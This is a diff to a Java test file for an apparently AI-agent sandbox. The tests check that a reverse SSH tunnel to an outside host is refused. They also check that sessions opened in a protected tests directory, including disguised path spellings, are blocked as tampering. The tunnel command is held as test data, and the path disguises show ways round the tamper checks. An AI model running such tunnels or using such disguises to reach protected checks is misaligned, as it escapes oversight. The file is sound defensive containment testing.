@@ -6,8 +6,11 @@ import dev.ale.core.passport.PassportLoader;
 import dev.ale.core.passport.Phase;
 import dev.ale.core.sandbox.ExecRequest;
 import dev.ale.core.sandbox.ExecResult;
+import dev.ale.core.sandbox.SandboxException;
 import dev.ale.core.sandbox.SandboxRequest;
+import dev.ale.core.sandbox.SessionRequest;
 import java.time.Duration;
+import java.util.List;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
@@ -94,9 +97,55 @@ class GuardedBackendTest {
             ExecResult ok = session.run("cd /tmp && pwd");
             ExecResult refused = session.run("ssh -R 9000:localhost:22 agent@203.0.113.9");
 
-            assertThat(ok.stdout()).isEqualTo("/tmp\n");
+            assertThat(ok.stdout()).as(ok.toString()).isEqualTo("/tmp\n");
             assertThat(refused.exitCode()).isEqualTo(126);
             assertThat(refused.reason()).hasValue("tunnel.ssh.remote-forward");
+        }
+    }
+
+    /**
+     * A session's directory is given when it opens, not by a {@code cd} command; it is judged as that
+     * command line was, so a directory the passport forbids is refused (with the same event) before
+     * any shell starts, in its disguises too, and a look-alike opens.
+     */
+    @Test
+    void aSessionOpenedInAForbiddenDirectoryIsRefusedAsItsCdLineWouldBe() {
+        Passport blockTamper = PassportLoader.parse("""
+                id: guarded-session-dir
+                protected: [/workspace/tests]
+                detectors:
+                  tamper: {action: block}
+                """, "guarded-session-dir.yaml");
+        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(blockTamper).startingIn(Phase.SETUP))) {
+            s.files().write("/workspace/tests/run.sh", "exit 1\n".getBytes());
+            s.files().write("/workspace/tests-old/keep", "x\n".getBytes());
+            s.enterPhase(Phase.AGENT);
+
+            assertThatThrownBy(() -> s.openSession(SessionRequest.defaults().withCwd("/workspace/tests")))
+                    .hasMessageContaining("/workspace/tests").hasMessageContaining("tamper.protected.named");
+            assertThat(s.events()).extracting(SafetyEvent::rule).containsExactly("tamper.protected.named");
+            assertThat(s.processes()).noneMatch(p -> p.argv().contains("--norc"));
+
+            try (GuardedSandbox.GuardedSession probe = s.openSession()) {
+                for (String dir : List.of("/workspace/tests", "/workspace/tests/", "/workspace//tests", "/workspace/./tests",
+                        "/workspace/tests-old", "/tmp")) {
+                    int before = s.events().size();
+                    boolean cdRefused = probe.run("cd '" + dir + "'").exitCode() == 126;
+                    boolean openRefused;
+                    try (GuardedSandbox.GuardedSession opened = s.openSession(SessionRequest.defaults().withCwd(dir))) {
+                        openRefused = false;
+                        assertThat(opened.run("pwd").stdout().strip()).as(dir).isIn(dir, dir.replaceAll("/+$", "").replace("/./", "/").replace("//", "/"));
+                    } catch (SandboxException e) {
+                        openRefused = true;
+                    }
+                    assertThat(openRefused).as("open in %s refused as its cd is", dir).isEqualTo(cdRefused);
+                    if (dir.startsWith("/workspace/tests-old") || dir.equals("/tmp")) {
+                        assertThat(openRefused).as(dir).isFalse();
+                        // the look-alike raised nothing (the pwd run neither)
+                        assertThat(s.events().subList(before, s.events().size())).as(dir).isEmpty();
+                    }
+                }
+            }
         }
     }
 
